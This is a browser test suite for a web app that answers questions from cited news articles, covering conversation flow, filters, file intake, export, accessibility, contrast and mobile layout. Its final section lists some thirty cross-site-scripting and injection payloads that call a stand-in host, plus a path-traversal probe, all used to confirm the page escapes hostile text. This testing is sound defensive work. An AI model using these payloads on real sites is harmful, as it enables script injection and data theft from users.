"""The page in a real browser: a whole conversation, hostile articles, the keyboard alone, a phone, light and dark.

Needs Chromium (Debian: apt-get install chromium) and Playwright's Python package; skipped where one is missing.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from importlib.util import find_spec
from pathlib import Path
from threading import Event
from typing import Any

import pytest

from index.build import build
from qa import Assistant
from qa.page import intake
from qa.page.article import add_article
from qa.page.chat import build_page
from qa.page.desk import WAITING, Desk
from qa.render import visible

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
playwright = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed: pip install playwright")
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here: apt-get install chromium"),
    pytest.mark.filterwarnings("ignore::ResourceWarning", "ignore::pytest.PytestUnraisableExceptionWarning"),
]
POLICY = (
    "default-src 'none'; script-src 'self' 'unsafe-inline'; style-src 'self' 'unsafe-inline'; img-src 'self' data: "
    "blob:; font-src 'self' data:; connect-src 'self'; manifest-src 'self'; worker-src 'self' blob:; object-src "
    "'none'; frame-src 'none'; frame-ancestors 'none'; base-uri 'self'; form-action 'self'"
)
WAIT = 30_000  # milliseconds; the machine may be busy


def application(desk: Desk, guarded: bool) -> Any:
    """The page as the service mounts it, with its guard and headers, or without any."""
    if guarded and find_spec("qa.page.app"):
        from qa.page.app import make_app

        return make_app(desk)
    import fastapi
    import gradio

    demo, settings = build_page(desk)
    app = fastapi.FastAPI()

    @app.middleware("http")
    async def headers(request: Any, call_next: Any) -> Any:
        answer = await call_next(request)
        if guarded:
            answer.headers.setdefault("Content-Security-Policy", POLICY)
        return answer

    add_article(app, desk)
    kept = {key: value for key, value in settings.items() if key not in {"share", "quiet"}}
    return gradio.mount_gradio_app(app, demo, path="/", ssr_mode=False, mcp_server=False, pwa=False, **kept)


@contextmanager
def served(desk: Desk, guarded: bool = True) -> Iterator[str]:
    import uvicorn

    with socket.create_server(("127.0.0.1", 0)) as listening:
        server = uvicorn.Server(uvicorn.Config(application(desk, guarded), log_level="error"))
        thread = threading.Thread(target=server.run, args=([listening],), daemon=True)
        thread.start()
        while not server.started:
            time.sleep(0.02)
        try:
            yield f"http://127.0.0.1:{listening.getsockname()[1]}/"
        finally:
            server.should_exit = True
            thread.join(10)


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    quiet = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-sync"]
    with playwright.sync_playwright() as running:
        browser = running.chromium.launch(executable_path=CHROMIUM, args=quiet)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Desk, Path]]:
    """The seeds, in a folder that files can be dropped into."""
    root = tmp_path_factory.mktemp("page")
    shutil.copytree(Path(__file__).resolve().parent.parent / "seeds", root / "articles")
    build(root / "articles", root / "library")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("XDG_DATA_HOME", str(root / "data"))
        yield Desk(Assistant.open_library(root / "library"), root / "articles"), root


@pytest.fixture(scope="module")
def address(library: tuple[Desk, Path]) -> Iterator[str]:
    with served(library[0]) as url:
        yield url


class Watched:
    """A page of the browser. errors: of its console and its scripts; outside: what it asked other hosts for."""

    def __init__(self, chromium: Any, url: str, **options: Any) -> None:
        self.context = chromium.new_context(**({"viewport": {"width": 1280, "height": 900}} | options))
        self.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=url.rstrip("/"))
        self.page, self.errors, self.outside = self.context.new_page(), list[str](), list[str]()
        self.page.on("console", lambda said: self.errors.append(said.text) if said.type == "error" else None)
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("dialog", lambda dialog: (self.errors.append(f"dialog {dialog.message}"), dialog.dismiss()))
        own = (url, "data:", "blob:")
        self.page.on("request", lambda sent: None if sent.url.startswith(own) else self.outside.append(sent.url))
        self.page.goto(url)
        self.box.wait_for(timeout=WAIT)

    @property
    def box(self) -> Any:
        return self.page.locator("#at-ask textarea, #at-ask input").first

    @property
    def last(self) -> Any:
        return self.page.locator("#at-chat .at-turn").last

    def ask(self, question: str) -> Any:
        before = self.page.locator("#at-chat .at-turn").count()
        self.box.fill(question)
        self.box.press("Enter")
        self.page.locator("#at-chat .at-turn").nth(before).wait_for(timeout=WAIT)
        return self.last

    def opened(self, panel: str) -> Any:
        self.page.locator(f"#{panel} > button").click()
        return self.page.locator(f"#{panel}")


@pytest.fixture
def watch(chromium: Any, address: str) -> Iterator[Callable[..., Watched]]:
    made: list[Watched] = []

    def open_page(url: str = address, **options: Any) -> Watched:
        made.append(Watched(chromium, url, **options))
        return made[-1]

    yield open_page
    for one in made:
        one.context.close()
        assert (one.errors, one.outside) == ([], [])


def test_the_page_is_there_within_three_seconds_and_soon_has_questions_that_fit(watch):
    spent = []
    for _ in range(3):
        began = time.monotonic()
        one = watch()
        spent.append(time.monotonic() - began)
    assert min(spent) <= 3 * max(1, os.getloadavg()[0] / (os.cpu_count() or 1))  # others may use this machine
    assert "5 articles, the newest of 9 June 2024" in one.page.locator("#at-head").inner_text()
    examples = one.page.locator("#at-chat .example")
    examples.first.wait_for(timeout=WAIT)
    assert examples.count() == 4
    examples.first.click()
    one.last.wait_for(timeout=WAIT)
    assert one.last.locator(".at-answer").inner_text() and one.last.locator(".at-cite mark").count()


def test_a_question_its_evidence_the_whole_article_and_a_follow_up(watch):
    one = watch()
    answer = one.ask("How many Ukrainian troops have French forces trained?")
    assert answer.locator(".at-answer").inner_text() == "around 10,000"
    cite = answer.locator(".at-cite").first
    assert cite.locator("mark").first.inner_text() == "around 10,000"
    assert "7 June 2024" in cite.inner_text() and "001_aea647b47e874b1a.txt" in cite.inner_text()
    cite.locator(".at-copy").click()
    cite.get_by_text("Copied").wait_for()
    assert one.page.evaluate("navigator.clipboard.readText()") == "around 10,000"
    cite.locator(".at-open").click()
    reader = one.page.locator("#at-reader")
    quote = reader.locator("#quote")
    quote.wait_for(timeout=WAIT)
    inside, seen = quote.bounding_box(), reader.bounding_box()
    assert seen["y"] < inside["y"] < seen["y"] + seen["height"] and quote.inner_text() == "around 10,000"
    assert "spark an escalation." in reader.inner_text()
    one.page.keyboard.press("Escape")
    assert not reader.is_visible()
    assert one.ask("Who announced that France will send Mirage jets?").locator(".at-answer").count()
    follow = one.ask("when did he say that?")
    assert "Read as:" in follow.inner_text()
    assert follow.locator("..").page.locator("#at-chat .at-turn").count() == 3
    assert one.page.locator("#at-chat .user-row").last.bounding_box()["y"] < 300  # the new question is in view
    one.page.get_by_role("button", name="New chat").click()
    one.page.locator("#at-chat .at-turn").first.wait_for(state="detached")


def test_without_its_script_the_link_leads_to_the_article_marked_and_with_a_policy_of_its_own(watch):
    one = watch()
    link = one.ask("Who sent the letters?").locator(".at-open").first
    href = link.get_attribute("href")
    answer = one.page.request.get(one.page.url + href)
    assert '<mark id="quote"' in answer.text() and "<script" not in answer.text()
    assert """"Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline';""" in answer.text()
    tab = one.context.new_page()
    tab.goto(one.page.url + href)
    assert tab.locator("#quote").inner_text() == "Thierry Burkhardt" and tab.evaluate("scrollY") >= 0
    gone = one.page.request.get(one.page.url + "article?source=../../etc/passwd")
    assert gone.status == 404 and "root:" not in gone.text()


def test_a_list_no_answer_and_a_bad_question(watch):
    one = watch()
    listed = one.ask("Which countries opposed training inside Ukraine?")
    assert listed.locator(".at-items li").all_inner_texts() == ["the United States", "Germany", "Italy", "Spain"]
    none = one.ask("What is the capital of Peru?")
    assert "No answer" in none.inner_text() and "They do not answer it" in none.inner_text()
    assert none.locator("mark").count() == 0
    bad = one.ask("?!")
    assert "has no words" in bad.inner_text() and one.box.input_value() == "?!"


def test_filters_stand_beside_the_answers_they_applied_to(watch):
    one = watch()
    panel = one.opened("at-filters")
    panel.get_by_label("Published since").fill("2024-06-08")
    panel.get_by_label("As of the end of").fill("2024-06-30")
    answer = one.ask("Who sent the letters?")
    assert "Asked of: published since 2024-06-08; as of 2024-06-30" in answer.inner_text()
    assert set(answer.locator(".at-source").all_text_contents()) == {"004_404871ae4e9fadb6.txt"}
    panel.get_by_label("Published since").fill("2030-01-01")
    none = one.ask("Who sent the letters?")
    assert "No article passes the filter" in none.inner_text()
    panel.get_by_label("Published since").fill("")
    panel.get_by_label("As of the end of").fill("")
    source = panel.get_by_label("Articles or folders")
    source.click()
    one.page.get_by_role("option", name="001_aea647b47e874b1a.txt").click()
    answer = one.ask("Who sent the letters?")
    assert "only “001_aea647b47e874b1a.txt”" in answer.inner_text()


def test_files_are_added_by_drop_and_questions_answered_meanwhile(watch, library, tmp_path, monkeypatch):
    desk, _ = library
    begun, go_on = Event(), Event()

    def slow(*args: Any, progress: Any = None, **options: Any) -> Any:
        progress(1, 4)
        begun.set()
        assert go_on.wait(30)
        return build(*args, progress=progress, **options)

    monkeypatch.setattr(intake, "build", slow)
    names = {"bridge.txt": b"The Ostara bridge was opened by Ann Lee.", "broken.txt": b"\x00\x01\xff\xfe\x00"}
    for name, content in names.items():
        (tmp_path / name).write_bytes(content)
    one = watch()
    panel = one.opened("at-library")
    panel.locator(".at-facts").get_by_text(str(desk.folder)).wait_for()
    panel.locator("input[type=file]").set_input_files([tmp_path / name for name in names])
    assert begun.wait(30)
    panel.get_by_text("25% of 4 new passages").wait_for(timeout=WAIT)
    assert "Thierry Burkhardt" in one.ask("Who sent the letters?").locator(".at-answer").inner_text()
    go_on.set()
    panel.get_by_text("The library is up to date").wait_for(timeout=WAIT)
    assert "1 file refused" in panel.inner_text() and "broken.txt" in panel.inner_text()
    one.page.locator("#at-head").get_by_text("6 articles").wait_for(timeout=WAIT)
    one.page.wait_for_timeout(1000)  # Gradio loses an event that comes in the moment when it closes its stream
    assert "Ann Lee" in one.ask("Who opened the Ostara bridge?").locator(".at-answer").inner_text()


@pytest.mark.skipif(find_spec("qa.export") is None, reason="there is no export here")
def test_what_is_exported_passes_the_check_of_its_quotes(watch, library):
    from qa.verify import problems

    one = watch()
    panel = one.opened("at-export")
    panel.get_by_role("button", name="Save as file").click()
    panel.get_by_text("Nothing has been answered yet").wait_for(timeout=WAIT)
    one.ask("Who sent the letters?")
    one.ask("Which countries opposed training inside Ukraine?")
    for form, suffix in (("JSON", ".json"), ("Markdown", ".md"), ("BibTeX", ".bib")):
        panel.get_by_label("Format").click()
        one.page.get_by_role("option", name=form, exact=True).click()
        with one.page.expect_download(timeout=WAIT) as saving:
            panel.get_by_role("button", name="Save as file").click()
        saved = Path(saving.value.path()).read_text(encoding="utf-8")
        assert saving.value.suggested_filename == f"attest{suffix}" and "Burkhardt" in saved
        if form == "JSON":
            held = json.loads(saved)
            assert [answer["text"].split("; ")[0] for answer in held] == ["Thierry Burkhardt", "the United States"]
            assert [
                problem for answer in held for problem in problems(answer, library[0].assistant.library.article)
            ] == []
    panel.get_by_label("The last answer").check()
    with one.page.expect_download(timeout=WAIT) as saving:
        panel.get_by_role("button", name="Save as file").click()
    assert "Burkhardt" not in Path(saving.value.path()).read_text(encoding="utf-8")


@pytest.mark.skipif(find_spec("qa.feedback") is None, reason="there is no feedback here")
def test_judgements_are_kept_only_where_that_was_allowed(watch, library):
    from qa.feedback import feedback_file

    desk, root = library
    place, one = feedback_file(desk.folder), watch()
    assert place.is_relative_to(root)
    panel = one.opened("at-feedback")
    right = panel.get_by_role("button", name="Right", exact=True)
    one.ask("Who sent the letters?")
    assert right.is_disabled() and str(place) in panel.inner_text()
    panel.get_by_label("Keep my judgements").check()
    right.click(timeout=WAIT)
    panel.get_by_text("Kept: right").wait_for(timeout=WAIT)
    (row,) = map(json.loads, place.read_text(encoding="utf-8").splitlines())
    assert row["question"] == "Who sent the letters?" and row["answers"][0]["text"] == "Thierry Burkhardt"
    panel.get_by_label("Keep my judgements").uncheck()
    one.page.locator("#at-feedback button[disabled]").first.wait_for(timeout=WAIT)


def test_a_busy_desk_says_so_and_the_question_stays(watch, library):
    one = watch()
    one.page.locator("#at-chat .example").first.wait_for(timeout=WAIT)  # they are asked too
    places = [library[0]._places.acquire(blocking=False) for _ in range(WAITING)]
    try:
        assert all(places) and "ask again in a few seconds" in one.ask("Who sent the letters?").inner_text()
    finally:
        for _ in places:
            library[0]._places.release()
    assert one.box.input_value() == "Who sent the letters?"


def test_the_keyboard_alone_is_enough(watch):
    one = watch()
    keys = one.page.keyboard
    assert one.page.evaluate("document.activeElement.closest('#at-ask') !== null")
    keys.type("Who sent the letters?")
    keys.press("Enter")
    one.last.wait_for(timeout=WAIT)
    focused = "document.activeElement.className"
    while one.page.evaluate(focused) != "at-copy":
        keys.press("Shift+Tab")
    keys.press("Enter")
    one.last.get_by_text("Copied").first.wait_for()
    keys.press("Shift+Tab")
    assert one.page.evaluate(focused) == "at-open"
    keys.press("Enter")
    one.page.locator("#at-reader #quote").wait_for(timeout=WAIT)
    keys.press("Escape")
    assert not one.page.locator("#at-reader").is_visible() and one.page.evaluate(focused) == "at-open"
    for _ in range(12):
        keys.press("Tab")
        if one.page.evaluate("document.activeElement.textContent.trim().startsWith('Filters')"):
            break
    keys.press("Enter")
    one.page.get_by_label("Published since").wait_for()


def test_a_screen_reader_hears_names_and_no_html(watch):
    one = watch()
    one.ask("Who sent the letters?")
    heard = one.page.locator("body").aria_snapshot()
    assert 'heading "Attest" [level=1]' in heard and 'heading "Who sent the letters?" [level=2]' in heard
    assert 'textbox "Question"' in heard and 'button "Ask"' in heard
    assert re.search(r'link "Whole article.* 004_404871ae4e9fadb6.txt"', heard)
    assert 'button "Copy exact quote"' in heard and 'heading "Evidence"' in heard
    assert "<section" not in heard and "&#" not in heard
    names = one.page.evaluate(NAMELESS)
    assert names == []
    labels = one.page.locator("[aria-label]").evaluate_all("found => found.map(one => one.getAttribute('aria-label'))")
    assert [label for label in labels if "<" in label] == []
    opener = one.page.locator("#at-filters > button")
    assert opener.get_attribute("aria-expanded") == "false"


NAMELESS = """() => [...document.querySelectorAll('button, a[href], input, textarea, select')]
    .filter(one => one.checkVisibility() && one.type !== 'file')
    .filter(one => !(one.innerText || one.getAttribute('aria-label') || one.title || one.placeholder
                     || (one.labels && [...one.labels].some(label => label.innerText))))
    .map(one => one.outerHTML.slice(0, 200))"""

CONTRAST = """(selector) => {
    const rgb = (words) => (words.match(/[\\d.]+/g) || []).map(Number);
    const light = ([r, g, b]) => [r, g, b].map(v => v / 255)
        .map(v => v <= .04045 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4)
        .reduce((sum, v, n) => sum + v * [.2126, .7152, .0722][n], 0);
    const behind = (one) => {
        for (; one; one = one.parentElement) {
            const found = rgb(getComputedStyle(one).backgroundColor);
            if (found.length === 3 || found[3] === 1) return found;
        }
        return [255, 255, 255];
    };
    const one = document.querySelector(selector);
    const [a, b] = [light(rgb(getComputedStyle(one).color)), light(behind(one))];
    return (Math.max(a, b) + .05) / (Math.min(a, b) + .05);
}"""
READ = [".at-answer", ".at-sure", ".at-cite blockquote", ".at-cite mark", ".at-origin", ".at-open", ".at-question"]
READ += [".at-lead", "#at-send", "#at-clear", "#at-filters > button"]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_everything_can_be_read_in_light_and_dark(watch, scheme):
    one = watch(color_scheme=scheme)
    one.ask("Who sent the letters?")
    ratios = {selector: one.page.evaluate(CONTRAST, selector) for selector in READ}  # WCAG 2.2, 1.4.3: 4.5 at least
    assert {selector: ratio for selector, ratio in ratios.items() if ratio < 4.5} == {}
    dark = one.page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(14, 19, 26)"
    assert dark == (scheme == "dark")


def test_a_phone_shows_all_without_scrolling_sideways(watch):
    one = watch(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True, device_scale_factor=2)
    answer = one.ask("Who sent the letters?")
    one.opened("at-filters")
    one.opened("at-library")
    assert one.page.evaluate("document.documentElement.scrollWidth") <= 390
    assert answer.locator(".at-cite mark").first.bounding_box()["width"] < 390
    answer.locator(".at-open").first.tap()
    reader = one.page.locator("#at-reader")
    reader.locator("#quote").wait_for(timeout=WAIT)
    assert reader.bounding_box()["width"] <= 390 and reader.get_by_role("button", name="Close").is_visible()
    reader.get_by_role("button", name="Close").tap()
    one.page.evaluate("scrollTo(0, 0)")
    box = one.box.bounding_box()
    assert box["y"] + box["height"] <= 844  # the question box stays at hand


# Hostile words. The server sends no Content-Security-Policy here: escaping alone has to hold.

SNIPPETS = [
    "<script>window.pwned = 1; fetch('http://HOST/script')</script>",
    "<img src='http://HOST/img'>",
    "<img src=x onerror=\"window.pwned = 1; new Image().src = 'http://HOST/onerror'\">",
    "<svg onload=\"window.pwned = 1\"><image href='http://HOST/svg'/></svg>",
    "<iframe src='http://HOST/iframe'></iframe>",
    "<iframe srcdoc=\"<script>parent.pwned = 1</script>\"></iframe>",
    "<object data='http://HOST/object'></object>",
    "<embed src='http://HOST/embed'>",
    "<video src='http://HOST/video' poster='http://HOST/poster' autoplay></video>",
    "<audio src='http://HOST/audio' autoplay></audio>",
    "<picture><source srcset='http://HOST/srcset'><img src='http://HOST/picture'></picture>",
    "<input type=image src='http://HOST/input' autofocus onfocus='window.pwned = 1'>",
    "<form action='http://HOST/form'><input name=password><button>Log in again</button></form>",
    "<style>@import 'http://HOST/import'; body { display: none !important; background: url(http://HOST/bg) }</style>",
    "<p style='position: fixed; inset: 0; background: url(http://HOST/fixed)'>over all</p>",
    "<link rel=stylesheet href='http://HOST/link'>",
    "<meta http-equiv=refresh content='0; url=http://HOST/meta'>",
    "<base href='http://HOST/base/'>",
    "<a href='javascript:window.pwned = 1'>press</a> <a href='http://HOST/ping' ping='http://HOST/ping'>x</a>",
    "![pixel](http://HOST/md.png) [press](javascript:window.pwned=1) <http://HOST/auto>",
    "```mermaid\ngraph TD; A[\"<img src='http://HOST/mermaid'>\"]\n```",
    "$$\\href{javascript:window.pwned=1}{x}\\includegraphics{http://HOST/katex}$$ \\(x\\)",
    "</span></blockquote></figure></section></div><h1>Escaped</h1><script>window.pwned = 1</script>",
    "\"></mark><img src='http://HOST/attr'> ' onmouseover='window.pwned = 1' x='",
    "&lt;img src='http://HOST/entity'&gt; &#60;script&#62;window.pwned = 1&#60;/script&#62;",
    "{{constructor.constructor('window.pwned = 1')()}} ${window.pwned = 1} <%= 7 * 7 %>",
    "\u202egnp.exe\u2066 zero\u200bwidth\u00adsoft \u2028line \U000e0041tag \ufeff",
    "\x1b]8;;http://HOST/osc\x07press\x1b]8;;\x07 \x00 \x07 \x08 \r\n",
    "Z\u0351\u0352\u0353" + "\u0300\u0301\u0302\u0303" * 60 + " tall",
    "x" * 3000 + " long word",
    "<details open ontoggle='window.pwned = 1'><summary>x</summary></details><template><img src='http://HOST/t'></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.pwned = 1'></style></mglyph></table></mtext></math>",
]  # fmt: skip
OURS = (
    "section h2 h3 h4 p small strong blockquote mark figure figcaption span bdi time a button ul li details summary div"
)
FOREIGN = """(allowed) => [...document.querySelectorAll(
        '.at-turn *, .at-question *, .at-article *, #at-library .prose *')]
    .map(one => one.tagName.toLowerCase()).filter(tag => !allowed.includes(tag))"""
ATTRIBUTES = """() => [...document.querySelectorAll('.at-turn *, .at-question *, .at-article *')]
    .flatMap(one => [...one.attributes].map(a => a.name))"""
ESCAPED = """() => [...document.querySelectorAll('.at-cite *, .at-cite')]
    .filter(one => !one.closest('.at-unseen') && !one.hidden)
    .filter(one => ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(one).position)
        || one.getBoundingClientRect().right > document.documentElement.clientWidth + 1)
    .map(one => one.outerHTML.slice(0, 120))"""


@pytest.fixture(scope="module")
def beacon() -> Iterator[tuple[str, list[bytes]]]:
    """A foreign host that notes whoever comes."""
    heard: list[bytes] = []
    listening = socket.create_server(("127.0.0.1", 0))

    def listen() -> None:
        while True:
            try:
                caller, _ = listening.accept()
            except OSError:
                return
            with caller, suppress(OSError):
                heard.append(b"called")
                caller.settimeout(0.2)
                caller.recv(2000)
                caller.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    threading.Thread(target=listen, daemon=True).start()
    yield f"127.0.0.1:{listening.getsockname()[1]}", heard
    listening.close()


@pytest.fixture(scope="module")
def hostile(beacon: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, list[str]]]:
    """A library in which every snippet stands in a text, a title, an author, an address, a source and a file name."""
    root = tmp_path_factory.mktemp("hostile")
    folder, snippets = root / "articles", [snippet.replace("HOST", beacon[0]) for snippet in SNIPPETS]
    folder.mkdir()
    rows = [
        {
            "text": f"{snippet} The mayor of Town{n} is Doe{n} the {n}th. {snippet if len(snippet) < 400 else ''}",
            "title": snippet,
            "id": f"{n}{snippet}",
            "author": snippet,
            "url": snippet,
        }
        for n, snippet in enumerate(snippets)
    ]
    (folder / "all.jsonl").write_text("\n".join(json.dumps(row) for row in rows), encoding="utf-8")
    for n, snippet in enumerate(snippets):
        name = re.sub(r"[/\\\x00]", "\u2215", snippet).encode()[:200].decode("utf-8", "ignore")
        (folder / f"{n}{name}.txt").write_text(f"The harbour of Port{n} was built in {1800 + n}.", encoding="utf-8")
        (folder / f"bad{n}{name}.txt").write_bytes(b"\x00\xff\x00\xfe")
    build(folder, root / "library", encoder="hashed")
    with served(Desk(Assistant.open_library(root / "library", reader="overlap"), folder), guarded=False) as url:
        yield url, snippets


def shown(words: str) -> str:
    """As it is to be read on the page, white space apart."""
    return "".join(visible(words.replace("\r\n", "\n"), keep="\n\t").split())


def test_hostile_words_are_read_and_do_nothing(watch, hostile, beacon):
    url, snippets = hostile
    one = watch(url)
    assert len(snippets) >= 23
    for n, snippet in enumerate(snippets):
        answer = one.ask(f"{snippet[:300]} Who is the mayor of Town{n}?")
        asked = one.page.locator("#at-chat .at-question").last
        assert shown(snippet[:300]) in "".join(asked.inner_text().split()), snippet
        cited = answer.locator(".at-cite", has_text=f"Doe{n} the {n}th").first
        told = "".join((cited.text_content() or "").split())
        if len(shown(snippet)) < 150:  # longer names are cut in their middle
            assert told.count(shown(snippet)) >= 3, snippet  # title, source and text
        cited.locator(".at-open").click()
        article = one.page.locator("#at-reader .at-article")
        article.wait_for(timeout=WAIT)
        assert shown(snippet) in "".join((article.locator(".at-text").text_content() or "").split()), snippet
        assert one.page.evaluate(FOREIGN, [*OURS.split(), "h1", "dl", "dt", "dd", "main"]) == []
        assert not {name for name in one.page.evaluate(ATTRIBUTES) if name.startswith("on") or name == "style"}
        one.page.keyboard.press("Escape")
        answer = one.ask(f"When was the harbour of Port{n} built?")
        assert answer.locator(".at-cite", has_text=f"Port{n} ").count(), snippet
        assert one.page.evaluate(ESCAPED) == [], snippet
        assert one.page.locator("#at-head").is_visible() and one.box.is_visible()
        if n % 8 == 7:
            one.page.get_by_role("button", name="New chat").click()
            one.page.locator("#at-chat .at-turn").first.wait_for(state="detached")
    panel = one.opened("at-library")
    panel.locator(".at-facts").wait_for()
    assert f"{len(snippets)} files not in the library" in panel.inner_text()
    assert one.page.evaluate(FOREIGN, [*OURS.split(), "dl", "dt", "dd", "main", "h1"]) == []
    one.opened("at-filters").get_by_label("Articles or folders").click()
    one.page.get_by_role("option").first.wait_for()
    assert one.page.get_by_role("option").count() >= len(snippets)
    time.sleep(0.5)
    assert one.page.evaluate("window.pwned") is None
    assert beacon[1] == [] and one.page.url == url


def test_the_watch_over_hostile_words_would_see_them_act(chromium, beacon):
    """The snippets in a page that does not escape them."""
    host, heard = beacon
    page = chromium.new_page()
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.set_content("".join(s.replace("HOST", host) for s in SNIPPETS[:13]), wait_until="commit")
    page.wait_for_timeout(1500)
    assert page.evaluate("window.pwned") == 1 and len(heard) >= 5
    page.close()
    heard.clear()
